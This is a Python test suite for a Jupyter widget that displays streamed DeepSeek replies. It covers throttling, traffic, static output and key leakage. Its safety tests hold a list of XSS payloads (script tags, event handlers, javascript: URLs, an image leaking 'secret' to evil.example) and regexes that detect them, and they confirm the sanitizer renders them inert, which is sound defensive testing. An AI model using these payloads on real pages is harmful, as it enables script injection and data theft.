"""The widget view without a browser: a recording comm stands in for the frontend.

ipywidgets create their comms through ``comm.create_comm``; replacing it with
a comm that records every message shows exactly what a browser would receive:
how many updates, how many bytes, and whether anything unsafe or secret is in
them (reference/jupyter-engineering.md §5.2).
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from types import SimpleNamespace
from typing import Any

import pytest
from comms import RecordingComm, record_comms
from recordings import REAL_FIXTURES, as_sse

from deepseek_magic import Session, Settings
from deepseek_magic.client import StreamDecoder
from deepseek_magic.core.events import (
    Accumulator,
    ContentDelta,
    Error,
    Event,
    ReasoningDelta,
    Reply,
    ToolCallDelta,
    Usage,
)
from deepseek_magic.emulator import EmulatorConfig, run_in_thread
from deepseek_magic.providers import get_provider
from deepseek_magic.ui import static
from deepseek_magic.ui.render import markdown_to_html, sanitize, split_blocks
from deepseek_magic.ui.widget_view import WidgetReplyView

HEADER = static.ReplyHeader("deepseek", "deepseek-v4-flash", True, "high")
RECORDING = REAL_FIXTURES / "deepseek-reasoning.chunks.txt"
UNSAFE_TAG = re.compile(r"<\s*(script|img|iframe|object|embed|style)\b", re.IGNORECASE)
EVENT_HANDLER = re.compile(r"<[^>]*\son\w+\s*=", re.IGNORECASE)
JAVASCRIPT_URL = re.compile(r"""<a\b[^>]*href\s*=\s*["']?\s*javascript:""", re.IGNORECASE)


# ------------------------------------------------------------------ fixtures


@dataclass
class Message:
    comm_id: str
    type: str
    data: dict[str, Any]
    size: int

    @property
    def text(self) -> str:
        return json.dumps(self.data, default=str, ensure_ascii=False)


def message(comm_id: str, kind: str, data: Any) -> Message:
    payload = data or {}
    return Message(comm_id, kind, payload, len(json.dumps(payload, default=str).encode()))


@pytest.fixture
def sent(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Message]]:
    """Every comm message of the test, in order."""
    log: list[Message] = []
    record_comms(monkeypatch, lambda comm_id, kind, data: log.append(message(comm_id, kind, data)))
    yield log


@dataclass
class Display:
    """Stands in for IPython's ``display``: remembers what was shown and every update."""

    shown: list[Any] = field(default_factory=list)
    updates: list[dict[str, str]] = field(default_factory=list)

    def __call__(self, obj: Any, **kwargs: Any) -> Display:
        assert kwargs.get("display_id") is True
        self.shown.append(obj)
        return self

    def update(self, data: dict[str, str], **kwargs: Any) -> None:
        self.updates.append(data)


def make_view(interval: float = 0.1) -> tuple[WidgetReplyView, Display]:
    display = Display()
    view = WidgetReplyView(HEADER, interval=interval, display=display)
    view.start()
    return view, display


def feed(view: WidgetReplyView, events: list[Event]) -> Reply:
    acc = Accumulator()
    for event in events:
        acc.add(event)
        view.on_event(event)
    return acc.reply()


def words(text: str, kind: type[ReasoningDelta] | type[ContentDelta]) -> list[Event]:
    return [kind(piece) for piece in re.findall(r"\s*\S+|\s+", text)]


def real_events() -> list[Event]:
    decoder = StreamDecoder(get_provider("deepseek"))
    return decoder.feed(as_sse(RECORDING)) + decoder.flush()


def value_updates(log: list[Message]) -> list[str]:
    return [m.data["state"]["value"] for m in log if m.type == "comm_msg" and "value" in m.data.get("state", {})]


def all_text(log: list[Message]) -> str:
    return "\n".join(message.text for message in log)


# --------------------------------------------------------------- the pane


def test_reasoning_pane_is_collapsed_and_its_title_is_live_then_final(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    assert view.reasoning_pane.selected_index is None
    feed(view, words("Let me think about the question carefully.", ReasoningDelta))
    title = view.reasoning_pane.get_title(0)
    assert re.fullmatch(r"Thinking… 7 tokens · \d+\.\d s", title), title
    assert view.status == "thinking…"
    feed(view, [ContentDelta("Paris.")])
    assert re.fullmatch(r"Thought for \d+\.\d s · 7 tokens", view.reasoning_pane.get_title(0))
    assert view.status == "answering…"
    view.finish(Reply(content="Paris.", reasoning="x", usage=Usage(5, 852, 857, reasoning_tokens=845)))
    titles = [m.data["state"]["titles"] for m in sent if "titles" in m.data.get("state", {})]
    assert titles[-1][0].startswith("Thought for") and titles[-1][0].endswith("· 845 tokens")
    assert view.reasoning_pane.selected_index is None, "the view never opens the pane itself"


def test_first_token_goes_out_at_once_then_updates_are_coalesced(sent: list[Message]) -> None:
    view, _ = make_view(interval=10.0)
    feed(view, [ContentDelta("Hello")])
    assert view.updates == 1 and any("Hello" in v for v in value_updates(sent))
    feed(view, [ContentDelta(f" word{n}") for n in range(500)])
    assert view.updates == 1, "500 events inside one interval send nothing more"
    assert not any("word499" in v for v in value_updates(sent))
    view.finish(Reply(content="..."))
    assert view.updates == 2, "finish always flushes"
    assert any("word499" in v for v in value_updates(sent))


def test_updates_follow_the_interval_of_the_clock(sent: list[Message], monkeypatch: pytest.MonkeyPatch) -> None:
    now = [0.0]
    monkeypatch.setattr("deepseek_magic.ui.throttle.time", SimpleNamespace(monotonic=lambda: now[0]))
    view, _ = make_view(interval=5)
    shown_after: list[int] = []
    for n in range(40):  # one event per clock second: an update at 0, 5, 10, ..., 35
        before = view.updates
        feed(view, [ContentDelta(f"w{n} ")])
        if view.updates > before:
            shown_after.append(n)
        now[0] += 1
    assert shown_after == [0, 5, 10, 15, 20, 25, 30, 35]
    assert view.updates == 8
    last = value_updates(sent)[-1]
    assert "w35" in last and "w36" not in last, "events inside an interval wait for the next update"
    now[0] = 39.9  # 4.9 s after the last update: not yet
    feed(view, [ContentDelta("early ")])
    assert view.updates == 8
    now[0] = 40.0  # the interval has passed: the next event is shown at once, with everything pending
    feed(view, [ContentDelta("late")])
    assert view.updates == 9
    assert "w39" in value_updates(sent)[-1] and "late" in value_updates(sent)[-1]


def test_finish_flushes_even_without_pending_text(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(view, [ContentDelta("Done.")])
    before = view.updates
    view.finish(Reply(content="Done.", finish_reason="stop"))
    assert view.updates == before + 1, "status and footer go out in a last update"
    assert "done" in view.describe()


# --------------------------------------------------------------- traffic


def test_frozen_blocks_are_not_sent_again(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(view, words("ALPHA first paragraph with **bold** text.\n\nBeta starts", ContentDelta))
    frozen_at = len(sent)
    assert sum("ALPHA" in m.text for m in sent if m.type == "comm_open") == 1, "block A got its own widget"
    feed(view, words(" and goes on " * 60 + "\n\nGamma", ContentDelta))
    later = sent[frozen_at:]
    assert len(value_updates(later)) >= 60, "the tail was updated many times"
    assert not any("ALPHA" in m.text for m in later), "the frozen block is never re-sent"


def _bytes_for(paragraphs: int) -> int:
    log: list[Message] = []
    RecordingComm.sink = lambda comm_id, kind, data: log.append(message(comm_id, kind, data))
    view, _ = make_view(interval=0)
    text = "".join(f"Paragraph {n} says something about widgets and bytes.\n\n" for n in range(paragraphs))
    feed(view, words(text, ContentDelta))
    view.finish(Reply(content=text))
    return sum(m.size for m in log)


def test_traffic_is_linear_in_the_answer_length(sent: list[Message]) -> None:
    small, large = _bytes_for(100), _bytes_for(400)
    assert large / small < 4.6, f"4x the text costs {large / small:.1f}x the bytes (quadratic would be ~16x)"


def test_long_code_blocks_and_reasoning_are_frozen_in_pieces(sent: list[Message]) -> None:
    view, display = make_view(interval=0)
    code = "".join(f"value_{n} = compute({n})\n" for n in range(300))
    reasoning = "".join(f"Step {n}: consider the next case.\n" for n in range(200))
    feed(view, [*words(reasoning, ReasoningDelta), ContentDelta("```python\n"), *words(code, ContentDelta)])
    biggest = max(len(v) for v in value_updates(sent))
    assert biggest < 3_000, "no update re-sends the whole code block or the whole reasoning"
    feed(view, [ContentDelta("```\n\nAfter.")])
    view.finish(Reply(content=f"```python\n{code}```\n\nAfter.", reasoning=reasoning))
    shown = all_text(sent)
    assert "value_0 = " in shown and "value_299 = " in shown and "Step 199" in shown
    assert "value_299 = compute(299)" in display.updates[-1]["text/html"]


# ---------------------------------------------------------- what is left


def test_finish_leaves_a_static_bundle_and_closes_every_widget(sent: list[Message]) -> None:
    view, display = make_view()
    events = real_events()
    reply = feed(view, events)
    assert reply.reasoning and reply.content and reply.usage is not None
    view.finish(reply)
    assert display.shown == [view.root] and len(display.updates) == 1
    data = display.updates[0]
    assert set(data) == {"text/html", "text/markdown", "text/plain"}
    page = data["text/html"]
    assert "<details><summary>Thought for" in page and f"· {reply.usage.reasoning_tokens:,} tokens" in page
    # Expected values written out from the recording (its answer, its usage), not computed by the view's code.
    answer = "There are **3** “r”s in **“strawberry”**."
    assert reply.content == answer
    assert "<p>There are <strong>3</strong> “r”s in <strong>“strawberry”</strong>.</p>" in page
    footer = r"97 prompt \+ 106 completion \(88 reasoning\) tokens · \d+\.\d s( · \d+ tok/s)? · stop"
    assert re.search(f"<sub>{footer}</sub>", page)
    title = r"Thought for \d+\.\d s · 88 tokens"
    reasoning = html.escape(reply.reasoning).replace("\n", "<br>\n")
    assert reasoning.startswith("We need answer simple. Need count r in strawberry.") and "&#x27;s count" in reasoning
    # Plain text in the Markdown copy (header, reasoning, footer) is entity-escaped so no renderer interprets it:
    # compared as a reader sees it, i.e. with the entities decoded; the answer stays Markdown.
    reasoning_lines = reply.reasoning.replace("\n", "<br>\n")
    markdown = (
        "<sub>deepseek · deepseek-v4-flash · thinking high</sub>\n\n"
        f"<details><summary>{title}</summary>\n\n{re.escape(reasoning_lines)}\n\n</details>\n\n"
        f"{re.escape(answer)}\n\n<sub>{footer}</sub>"
    )
    assert re.fullmatch(markdown, html.unescape(data["text/markdown"])), data["text/markdown"]
    assert "'" not in data["text/markdown"].split("</details>")[0], "the reasoning's punctuation is escaped"
    plain = f"\\[{title}\\]\n{re.escape(answer)}\n-- {footer}"
    assert re.fullmatch(plain, data["text/plain"]), data["text/plain"]
    opened = {m.comm_id for m in sent if m.type == "comm_open"}
    closed = {m.comm_id for m in sent if m.type == "comm_close"}
    assert opened and opened == closed, "no widget (hence no widget state) outlives the reply"
    assert view.root.comm is None


def test_badges_reach_the_static_output(sent: list[Message]) -> None:
    view, display = make_view()
    feed(view, [ReasoningDelta("Hmm"), ContentDelta("Partial answer")])
    view.finish(Reply(content="Partial answer", reasoning="Hmm", finish_reason="length"), "interrupted")
    page = display.updates[0]["text/html"]
    assert "interrupted" in page and "max_tokens" in page
    assert "interrupted" in view.describe()


def test_text_frontends_get_a_short_description(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    bundle = view.root._repr_mimebundle_()
    assert bundle["text/plain"] == "[deepseek · deepseek-v4-flash · thinking high] waiting…"
    assert "application/vnd.jupyter.widget-view+json" in bundle
    feed(view, words("The capital of France is Paris.", ContentDelta))
    assert view.root._repr_mimebundle_()["text/plain"].endswith("answering… 31 chars: The capital of France is Paris.")


def test_retry_clears_the_reply_and_shows_the_note(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(view, [ReasoningDelta("first try"), ContentDelta("not json")])
    view.on_retry("the reply was not valid JSON; asking again")
    assert view.status == "waiting…"
    assert view.reasoning_pane not in view.root.children
    values = [v for v in (child.value for child in view.root.children if hasattr(child, "value")) if v]
    assert any("asking again" in v for v in values)
    assert "not json" not in view.describe()
    feed(view, [ContentDelta('{"ok": true}')])
    assert "not json" not in value_updates(sent)[-1]


def test_tool_calls_show_in_a_folded_trace(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(
        view,
        [
            ToolCallDelta(0, id="call_1", name="get_weather", arguments='{"city": '),
            ToolCallDelta(0, arguments='"Paris"}'),
        ],
    )
    assert view.tools_pane in view.root.children and view.tools_pane.selected_index is None
    assert view.tools_pane.get_title(0) == "Tool calls (1): get_weather"
    assert "get_weather({&quot;city&quot;: &quot;Paris&quot;})" in value_updates(sent)[-1]


def test_errors_in_the_stream_are_shown(sent: list[Message]) -> None:
    view, _ = make_view(interval=0)
    feed(view, [Error("<b>overloaded</b>")])
    assert any("<b>Error:</b> &lt;b&gt;overloaded&lt;/b&gt;" in v for v in value_updates(sent))


# ---------------------------------------------------------------- safety

HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> "
    '<a href="javascript:alert(3)">click</a> [link](javascript:alert(4)) '
    "<iframe src=https://evil.example></iframe> ![pixel](https://evil.example/leak?q=secret)\n\n"
    '<div onmouseover="alert(5)" style="background:url(javascript:alert(6))">x</div>\n'
)


def assert_inert(text: str) -> None:
    assert not UNSAFE_TAG.search(text), UNSAFE_TAG.search(text)
    assert not EVENT_HANDLER.search(text), EVENT_HANDLER.search(text)
    assert not JAVASCRIPT_URL.search(text), JAVASCRIPT_URL.search(text)


def test_model_markup_is_inert_in_answer_and_reasoning(sent: list[Message]) -> None:
    view, display = make_view(interval=0)
    reply = feed(view, words(HOSTILE, ReasoningDelta) + words(HOSTILE + "Safe **bold**.", ContentDelta))
    view.finish(reply)
    values = [v for m in sent for v in m.data.get("state", {}).values() if isinstance(v, str)]
    assert any("&lt;script&gt;" in v for v in values)
    for value in values:
        assert_inert(value)
    assert_inert(display.updates[0]["text/html"])
    assert "<strong>bold</strong>" in display.updates[0]["text/html"]
    assert "&lt;script&gt;" in display.updates[0]["text/html"], "model markup is shown as text"


def test_the_sanitizer_itself_strips_what_the_parser_would_let_through() -> None:
    cleaned = sanitize(
        '<p onclick="x()">a<script>bad()</script></p><img src=x onerror=y()>'
        '<a href="javascript:alert(1)">j</a><a href="https://ok.example">ok</a>'
        '<table><tr><td style="text-align:right;background:url(javascript:z)">1</td></tr></table>'
        '<code class="language-py">c</code><span class="jp-Dialog">s</span>'
    )
    assert_inert(cleaned)
    assert "bad()" not in cleaned and "onclick" not in cleaned and "background" not in cleaned
    assert 'href="https://ok.example"' in cleaned and 'rel="noopener noreferrer"' in cleaned
    assert 'style="text-align:right"' in cleaned
    assert 'class="language-py"' in cleaned and "jp-Dialog" not in cleaned


def test_markdown_renders_tables_code_and_keeps_raw_html_as_text() -> None:
    page = markdown_to_html("| a | b |\n|--:|---|\n| 1 | 2 |\n\n```py\nx < 1\n```\n\n<b>raw</b> ~~old~~")
    assert "<table>" in page and '<td style="text-align:right">1</td>' in page
    assert '<code class="language-py">x &lt; 1' in page
    assert "&lt;b&gt;raw&lt;/b&gt;" in page and "<s>old</s>" in page


def test_no_key_reaches_the_frontend(sent: list[Message]) -> None:
    key = "sk-test-0123456789abcdef0123456789abcdef"
    with run_in_thread(EmulatorConfig(api_key=key)) as emu:
        session = Session(settings=Settings.build(api_key=key, base_url=emu.base_url))
        view, display = make_view()
        result = session.ask("What is 2+2?", on_event=view.on_event, on_retry=view.on_retry)
        view.finish(result)
    assert result.content and len(sent) > 10
    shown = all_text(sent) + repr(view.root) + json.dumps(display.updates)
    assert key not in shown and key[-12:] not in shown and "Bearer" not in shown
    assert not re.search(r"sk-[A-Za-z0-9]{16,}", shown)


# ------------------------------------------------------------ block splits


def test_split_blocks_waits_for_the_next_block_and_never_cuts_a_fence() -> None:
    assert split_blocks("One.\n\n") == ([], "One.\n\n"), "a block is finished once the next one starts"
    assert split_blocks("One.\n\nTwo") == (["One."], "Two")
    fenced = "```py\na = 1\n\nb = 2\n"
    assert split_blocks(fenced) == ([], fenced)
    assert split_blocks(fenced + "```\nAfter") == (["```py\na = 1\n\nb = 2\n```"], "After")
    assert split_blocks("- a\n\n  continued\n\nNext") == (["- a\n\n  continued"], "Next")
    assert split_blocks("# Title\nText\n- a\n- b\n") == (["# Title"], "Text\n- a\n- b\n")
    assert split_blocks("- a\n- b\n  - sub\n- c\n") == (["- a", "- b\n  - sub"], "- c\n")
    assert split_blocks("- a\n- b") == ([], "- a\n- b"), "an unfinished line may still become `---`"
    assert split_blocks("Use ```x``` inline.\n\nNext") == (["Use ```x``` inline."], "Next")


def test_split_blocks_render_like_the_whole_text() -> None:
    text = (
        "# Title\nIntro line one\nline two.\n\n## Part\n\nA paragraph with `code`.\n\n"
        "```python\ndef f():\n\n    return 1\n```\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n> text\n\n    indented code\n\nEnd.\n"
    )
    for cut in range(len(text) + 1):
        blocks, tail = split_blocks(text[:cut])
        assert "".join(blocks) + tail != "" or cut == 0
        pieces = "".join(markdown_to_html(block) for block in blocks)
        assert markdown_to_html(text[:cut]).startswith(pieces) or not blocks, cut
    blocks, tail = split_blocks(text + "\nMore")
    assert "".join(markdown_to_html(b) for b in [*blocks, tail]) == markdown_to_html(text + "\nMore")


# ------------------------------------------------------------- real kernel

KERNEL_CELL = """
from deepseek_magic import Session
from deepseek_magic.ui.static import ReplyHeader
from deepseek_magic.ui.widget_view import WidgetReplyView

session = Session()  # DEEPSEEK_BASE_URL and DEEPSEEK_API_KEY point at the test's emulator
view = WidgetReplyView(ReplyHeader("deepseek", "deepseek-v4-flash", True, "high"))
view.start()
view.finish(session.ask("What is 2+2?", on_event=view.on_event))
"""


@pytest.mark.slow
def test_an_executed_notebook_keeps_a_static_reply_and_no_key(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    key = "sk-canary-widget-view-5e1f0c"
    monkeypatch.setenv("DEEPSEEK_API_KEY", key)
    monkeypatch.setenv("DEEPSEEK_MAGIC_NO_AUTOLOAD", "1")
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(KERNEL_CELL)])
    with run_in_thread(EmulatorConfig(api_key=key)) as emu:
        monkeypatch.setenv("DEEPSEEK_BASE_URL", emu.base_url)
        nbclient.NotebookClient(nb, timeout=120, kernel_name="python3", store_widget_state=True).execute()
    outputs = nb.cells[0].outputs
    assert [o.output_type for o in outputs] == ["display_data"], outputs
    data = outputs[0].data
    assert "application/vnd.jupyter.widget-view+json" not in data, "the live widget was replaced"
    assert "<details><summary>Thought for" in data["text/html"] and "<p>" in data["text/html"]
    assert data["text/markdown"] and data["text/plain"]
    # nbclient keeps the state of closed widgets in metadata (it ignores comm_close); no output refers to them.
    assert key not in nbformat.writes(nb)
